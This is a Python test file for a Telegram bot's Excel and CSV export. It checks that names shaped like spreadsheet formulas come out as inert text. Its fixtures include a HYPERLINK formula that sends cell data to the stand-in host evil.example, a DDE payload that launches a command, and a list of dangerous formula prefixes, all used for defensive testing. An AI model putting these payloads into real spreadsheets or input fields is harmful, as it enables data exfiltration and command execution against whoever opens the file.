"""Exports carry no formulas: a name a person chose (a Telegram first name, a unit name
typed in a file) is text in every cell of the Excel and the CSV, never something a
spreadsheet runs."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from handlers.export import cell, export_unit
from reminders.calendar import month_of
from storage.db import Database
from storage.models import Level, pk
from tests.conftest import Chat, World

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&C3,"Xem")'
HOSTILE_UNITS = ["=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=cmd|' /C calc'!A0", "\r=2"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


async def hostile_world(chat: Chat, db: Database, world: World) -> None:
    """A person named like a formula joins and reports; villages named like formulas."""
    code = world.invites["T1"]
    assert "Chào mừng" in await chat.say(f"/thamgia {code}", user="evil", name=HYPERLINK)
    assert "Đã ghi nhận" in await chat.say("vneid 1", user="evil")
    async with db.transaction() as store:
        commune = await store.units.get(world.commune_id)
        assert commune is not None
        for n, name in enumerate(HOSTILE_UNITS):
            village = await store.units.add(f"H{n}", name, Level.village, commune)
            await store.targets.set(pk(village), "cks", "2026-11", 10)
        village = await store.units.by_code("H0")
        assert village is not None
        # Straight into storage, past the door's cleaning (no NUL: PostgreSQL refuses it).
        member = await store.members.add("Hoa\x07\u202e=evil\x1b", village)
        await store.entries.add_report(
            member_id=pk(member), unit_id=pk(village), counts={"cks": 4},
            day=date(2026, 11, 20), source="test",
        )  # fmt: skip
        await store.commit()


def assert_no_formula_text(value: object) -> None:
    if isinstance(value, str):
        assert not value.startswith(DANGEROUS), value
        assert not any(ord(c) < 32 or 0x202A <= ord(c) <= 0x202E for c in value), value


async def test_the_excel_of_a_commune_with_hostile_names_holds_no_formula(
    chat: Chat, db: Database, world: World
) -> None:
    await hostile_world(chat, db, world)
    async with db.transaction() as store:
        commune = await store.units.get(world.commune_id)
        assert commune is not None
        commune.name = "=Xã(1)"
        await store.commit()
    (reply,) = await chat.send("/xuat", user="binh")
    (file,) = reply.files
    book = load_workbook(io.BytesIO(file.data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                assert_no_formula_text(c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    assert "'" + HYPERLINK in texts  # the member, on the raw-entries sheet, as text
    assert {"'=1+1", "'+SUM(A1:A9)", "'-2+3", "'@SUM(A1)", "' =cmd|' /C calc'!A0"} <= set(texts)
    assert "Hoa=evil" in texts  # control characters and the bidi override are gone
    summary = book["Tổng hợp"]
    assert "— =Xã(1) —" in summary["A1"].value  # inside the title: text, not a formula
    (row,) = [r for r in summary.iter_rows(values_only=True) if r[1] == "'=1+1"]
    assert row[5:8] == (10, 4, 0.4)  # numbers stay numbers
    raw = list(book["Số liệu chi tiết"].iter_rows(values_only=True))
    assert any(r[2] == "'" + HYPERLINK and r[4] == 1 for r in raw)


async def test_the_csv_of_a_commune_with_hostile_names_holds_no_formula(
    chat: Chat, db: Database, world: World
) -> None:
    await hostile_world(chat, db, world)
    async with db.transaction() as store:
        commune = await store.units.get(world.commune_id)
        assert commune is not None
        _, data = await export_unit(store, commune, month_of(date(2026, 11, 21)))
        await store.commit()
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in table:
        for value in row:
            assert_no_formula_text(value)
    names = [row[1] for row in table]
    assert "'=1+1" in names and "'@SUM(A1)" in names and "'\u0020=2" in names
    (hostile,) = [row for row in table if row[1] == "'=1+1"]
    assert hostile[5:8] == ["10", "4", "40.0"]


def test_one_cell_function_keeps_numbers_and_neutralises_text() -> None:
    assert cell(3) == 3 and cell(0.4) == 0.4 and cell(None) is None and cell(-5) == -5
    assert cell(date(2026, 11, 20)) == date(2026, 11, 20)
    assert cell("Thôn Đông") == "Thôn Đông"
    assert cell("=1+1") == "'=1+1"
    assert cell("  =1+1") == "'  =1+1"
    assert cell("-5") == "'-5"  # text that looks like a number stays text
    assert cell("\t=1") == "' =1"
    assert cell("a\r\nb\x00c\u202ed") == "a  bcd"
    assert cell(True) == "True"
